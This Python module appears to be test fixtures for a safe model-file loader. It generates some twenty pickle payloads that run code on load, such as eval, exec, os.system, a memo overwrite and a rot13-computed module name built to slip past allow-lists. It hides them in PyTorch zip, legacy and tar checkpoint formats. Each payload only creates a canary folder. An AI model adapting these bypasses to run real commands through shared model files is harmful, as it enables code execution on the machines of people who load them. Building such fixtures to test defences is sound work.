"""Pickles that make a folder when they are loaded, each by another way, and the files they can hide in."""

from __future__ import annotations

import contextlib
import copyreg
import io
import os
import pickle
import struct
import tarfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch

EXTENSION = 240  # codes from 240 on are for private use


def _short(text: str) -> bytes:
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data


def _long(text: str) -> bytes:
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


class _Reduces:
    def __init__(self, *reduced: Any) -> None:
        self.reduced = reduced

    def __reduce__(self) -> tuple[Any, ...]:
        return self.reduced


def _import(canary: Path) -> str:
    return f"__import__('os').mkdir({str(canary)!r})"


def by_global(canary: Path) -> bytes:
    return b"cos\nmkdir\n(" + _long(str(canary)) + b"tR."


def by_eval(canary: Path) -> bytes:
    return b"\x80\x02cbuiltins\neval\n" + _long(_import(canary)) + b"\x85R."


def by_name_of_python_2(canary: Path) -> bytes:
    return b"\x80\x02c__builtin__\neval\n" + _long(_import(canary)) + b"\x85R."


def by_exec(canary: Path) -> bytes:
    return b"\x80\x02cbuiltins\nexec\n" + _long(_import(canary)) + b"\x85R."


def by_system(canary: Path) -> bytes:
    return pickle.dumps(_Reduces(os.system, (f"mkdir {canary}",)), protocol=0)


def by_inst(canary: Path) -> bytes:
    return b"(" + _long(str(canary)) + b"ios\nmkdir\n."


def by_obj(canary: Path) -> bytes:
    return b"(cos\nmkdir\n" + _long(str(canary)) + b"o."


def by_stack_global(canary: Path) -> bytes:
    return pickle.dumps({"a": _Reduces(os.mkdir, (str(canary),))}, protocol=4)


def by_dotted_name(canary: Path) -> bytes:
    return b"\x80\x04" + _short("torch") + _short("os.mkdir") + b"\x93" + _long(str(canary)) + b"\x85R."


def by_memo(canary: Path) -> bytes:
    names = _short("os") + b"r\x01\x02\0\x000" + _short("mkdir") + b"q\x0700"
    return b"\x80\x04" + _short("") + names + b"j\x01\x02\0\0h\x07\x93" + _long(str(canary)) + b"\x85R."


def by_overwritten_memo(canary: Path) -> bytes:
    harmless = _short("collections") + b"q\x000" + _short("OrderedDict") + b"q\x010"
    again = _short("os") + b"q\x000" + _short("mkdir") + b"q\x010"
    return b"\x80\x04" + harmless + again + b"h\x00h\x01\x93" + _long(str(canary)) + b"\x85R."


def by_computed_name(canary: Path) -> bytes:
    """Every name in it is in the allow-list; the one that matters is what one of them computes."""
    rotated = b"c_codecs\nencode\n" + _short("zxqve") + _short("rot13") + b"\x86R"
    return b"\x80\x04" + _short("os") + rotated + b"\x93" + _long(str(canary)) + b"\x85R."


def by_build(canary: Path) -> bytes:
    """An object whose own `__setstate__` is the function to be called."""
    return (
        b"\x80\x02ccollections\nOrderedDict\n)R}"
        + _long("__setstate__")
        + b"cos\nmkdir\nsb"
        + _long(str(canary))
        + b"b."
    )


def by_partial(canary: Path) -> bytes:
    return b"\x80\x02cfunctools\npartial\ncos\nmkdir\n" + _long(str(canary)) + b"\x86R)R."


def by_extension(canary: Path) -> bytes:
    return b"\x80\x02\x82" + bytes([EXTENSION]) + _long(str(canary)) + b"\x85R."


def by_nested_load(canary: Path) -> bytes:
    return pickle.dumps(_Reduces(pickle.loads, (by_global(canary),)), protocol=2)


def by_torch_load(canary: Path) -> bytes:
    inner = io.BytesIO()
    torch.save(_Reduces(os.mkdir, (str(canary),)), inner)
    return pickle.dumps(_Reduces(torch.storage._load_from_bytes, (inner.getvalue(),)), protocol=2)


def by_timeit(canary: Path) -> bytes:
    import time
    import timeit

    return pickle.dumps(_Reduces(timeit.timeit, (_import(canary), "pass", time.perf_counter, 1)), protocol=3)


def by_copyreg(canary: Path) -> bytes:
    return pickle.dumps(_Reduces(copyreg.__newobj__, (_Newer, str(canary))), protocol=0)


class _Newer:
    def __new__(cls, path: str) -> Any:
        os.mkdir(path)
        return object.__new__(cls)


def before_its_end(canary: Path) -> bytes:
    """What follows the call is no pickle any more."""
    return by_global(canary)[:-1] + b"\xff\xff"


PAYLOADS: list[Callable[[Path], bytes]] = [
    by_global,
    by_eval,
    by_name_of_python_2,
    by_exec,
    by_system,
    by_inst,
    by_obj,
    by_stack_global,
    by_dotted_name,
    by_memo,
    by_overwritten_memo,
    by_computed_name,
    by_build,
    by_partial,
    by_extension,
    by_nested_load,
    by_torch_load,
    by_timeit,
    by_copyreg,
    before_its_end,
]


# ---- files ----


def write_raw(payload: bytes, file: Path) -> None:
    file.write_bytes(payload)


def write_zip(payload: bytes, file: Path) -> None:
    """As torch.save writes it, with this pickle."""
    buffer = io.BytesIO()
    writer = torch._C.PyTorchFileWriter(buffer)
    writer.write_record("data.pkl", payload, len(payload))
    writer.write_record("version", b"3\n", 2)
    writer.write_end_of_file()
    file.write_bytes(buffer.getvalue())


def write_legacy(payload: bytes, file: Path) -> None:
    torch.save({"a": 1}, file, _use_new_zipfile_serialization=False)
    data = io.BytesIO(file.read_bytes())
    head = b""
    for _ in range(3):  # magic number, protocol, system
        start = data.tell()
        pickle.load(data)
        head += data.getvalue()[start : data.tell()]
    file.write_bytes(head + payload + pickle.dumps([], protocol=2))


def write_tar(payload: bytes, file: Path) -> None:
    """Torch's oldest format."""
    none = pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2)
    with tarfile.open(file, "w", format=tarfile.PAX_FORMAT) as archive:
        for name, data in (("storages", none), ("tensors", none), ("pickle", payload)):
            record = tarfile.TarInfo(name)
            record.size = len(data)
            archive.addfile(record, io.BytesIO(data))


FORMS: list[Callable[[bytes, Path], None]] = [write_raw, write_zip, write_legacy, write_tar]


def load_without_care(payload: bytes, file: Path) -> None:
    """What an engine does that trusts its files."""
    with contextlib.suppress(Exception):
        if file.read_bytes() == payload:
            pickle.loads(payload)
        else:
            torch.load(file, weights_only=False)
